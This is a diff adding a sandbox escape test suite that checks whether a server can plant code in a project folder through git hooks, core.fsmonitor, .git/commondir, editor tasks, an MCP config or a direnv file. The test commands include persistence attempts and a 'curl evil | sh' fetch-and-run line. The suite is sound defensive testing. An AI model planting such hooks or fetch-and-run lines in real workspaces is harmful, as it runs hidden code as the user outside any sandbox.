@@ -1,0 +1,123 @@
+/**
+ * Escape suite, workspace files: a server that may write a project folder tries to plant code
+ * that runs later as the user, outside any sandbox, when the user merely works there: a git hook,
+ * `core.fsmonitor` in `.git/config` (run by every `git status`, and by shell prompts that call
+ * it), a `.git/commondir` pointing git at a config of its own, a `.git` of its own in place of the
+ * real one, an editor task run on opening the folder, a project MCP server, a direnv file. Each
+ * is kept read-only under bubblewrap (git still reads the repo; a server that commits needs the
+ * exception); the Landlock sandbox, which cannot do that, refuses to start.
+ */
+import { execFileSync } from 'node:child_process';
+import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type Fixture, makeFixture, sandboxStatus, sh } from './harness';
+
+const status = await sandboxStatus();
+
+describe.skipIf(!status.usable)(`escape: workspace files (${status.backend})`, () => {
+  let f: Fixture;
+  let repo: string;
+  const config = () => readFile(join(repo, '.git', 'config'), 'utf8');
+  beforeAll(async () => {
+    f = await makeFixture();
+    repo = join(f.rw, 'repo');
+    await mkdir(join(repo, 'sub', 'deep', '.vscode'), { recursive: true });
+    execFileSync('git', ['init', '-q', repo]);
+    await writeFile(join(repo, 'a.txt'), 'a\n');
+    await writeFile(join(repo, '.mcp.json'), '{"mcpServers":{}}\n');
+    await writeFile(join(repo, '.envrc'), 'export A=1\n');
+    await mkdir(join(repo, '.vscode'));
+    await writeFile(join(repo, '.vscode', 'settings.json'), '{}\n');
+    await writeFile(join(repo, '.vscode', '.env'), 'SECRET-IN-VSCODE\n');
+    await writeFile(join(repo, 'sub', 'deep', '.vscode', 'tasks.json'), '{}\n');
+  });
+  afterAll(() => f.cleanup());
+
+  // What the Landlock sandbox cannot keep read-only in a writable folder, it refuses to start.
+  it.runIf(status.backend === 'landlock')('Landlock refuses such a writable folder', async () => {
+    const r = await sh(['--rw', f.rw], 'echo STARTED', f.hostEnv);
+    expect(r.stdout).not.toContain('STARTED');
+    expect(r.stderr).toMatch(/kept read-only in folders a server may write/);
+    expect(r.stderr).toMatch(/--unprotect/);
+  });
+
+  describe.skipIf(status.backend === 'landlock')('under bubblewrap', () => {
+    it("cannot plant a git hook, change git's config or point git at another", async () => {
+      const before = await config();
+      const r = await sh(
+        ['--rw', f.rw],
+        `cd ${repo} && echo 'touch /tmp/owned' > .git/hooks/pre-commit && echo HOOKED; ` +
+          `git config core.fsmonitor 'touch /tmp/owned' && echo CONFIGURED; ` +
+          `printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config && echo APPENDED; ` +
+          `echo ${f.rw}/evil.git > .git/commondir && echo REDIRECTED; ` +
+          `mv .git/hooks .git/hooks-old && echo MOVED`,
+        f.hostEnv,
+      );
+      expect(r.stdout).toBe('');
+      expect(r.stderr).toMatch(/read-only file system/i);
+      expect(await config()).toBe(before);
+      expect(await readdir(join(repo, '.git', 'hooks'))).not.toContain('pre-commit');
+      expect(await readdir(join(repo, '.git'))).not.toContain('commondir');
+    });
+
+    it('cannot move the .git folder aside or empty it to plant its own', async () => {
+      const r = await sh(
+        ['--rw', f.rw],
+        `cd ${repo} && mv .git .git-old && echo MOVED; rm -rf .git; cat .git/HEAD`,
+        f.hostEnv,
+      );
+      expect(r.stdout).not.toContain('MOVED');
+      expect(r.stdout).toMatch(/^ref: refs\/heads\//);
+      expect(r.stderr).toMatch(/busy/i);
+      expect(r.stderr).toMatch(/read-only file system/i);
+      expect(await readFile(join(repo, '.git', 'HEAD'), 'utf8')).toMatch(/^ref: /);
+    });
+
+    it("cannot change the editor's tasks, a project MCP config or a direnv file", async () => {
+      const r = await sh(
+        ['--rw', f.rw],
+        `cd ${repo} && echo '{"tasks":[]}' > .vscode/tasks.json && echo TASKS; ` +
+          `echo x > sub/deep/.vscode/tasks.json && echo DEEP; ` +
+          `echo '{"mcpServers":{"evil":{}}}' > .mcp.json && echo MCP; rm -f .mcp.json; ` +
+          `echo 'curl evil | sh' >> .envrc && echo ENVRC; cat .vscode/.env`,
+        f.hostEnv,
+      );
+      expect(r.stdout).toBe('');
+      expect(r.stderr).toMatch(/read-only file system/i);
+      expect(await readFile(join(repo, '.mcp.json'), 'utf8')).toBe('{"mcpServers":{}}\n');
+      expect(await readFile(join(repo, '.envrc'), 'utf8')).toBe('export A=1\n');
+      expect(await readFile(join(repo, 'sub/deep/.vscode/tasks.json'), 'utf8')).toBe('{}\n');
+      await expect(readFile(join(repo, '.vscode', 'tasks.json'))).rejects.toThrow();
+    });
+
+    it('reads the repo with git, and writes the rest of the folder', async () => {
+      const r = await sh(
+        ['--rw', f.rw],
+        `cd ${repo} && echo b > b.txt && cat b.txt && git status --short | wc -l && ` +
+          `git add b.txt || echo ADD-REFUSED`,
+        f.hostEnv,
+      );
+      expect(r.stdout.split('\n').map((s) => s.trim())).toEqual(['b', '6', 'ADD-REFUSED', '']);
+    });
+
+    it('writes them where the policy makes an exception', async () => {
+      const r = await sh(
+        ['--rw', f.rw, '--unprotect', '.vscode', '--unprotect', '.git'],
+        `cd ${repo} && echo '{}' > .vscode/tasks.json && git config warden.test yes && ` +
+          `git add a.txt && git -c user.name=w -c user.email=w@example.invalid commit -qm a && ` +
+          `git log --oneline | wc -l; echo x > .mcp.json || echo MCP-REFUSED`,
+        f.hostEnv,
+      );
+      expect(r.stdout).toBe('1\nMCP-REFUSED\n');
+      expect(await config()).toContain('test = yes');
+      // Even excepted, a .env inside is still hidden.
+      const env = await sh(
+        ['--rw', f.rw, '--unprotect', '.vscode'],
+        `cat ${repo}/.vscode/.env`,
+        f.hostEnv,
+      );
+      expect(env.stdout).not.toContain('SECRET');
+    });
+  });
+});
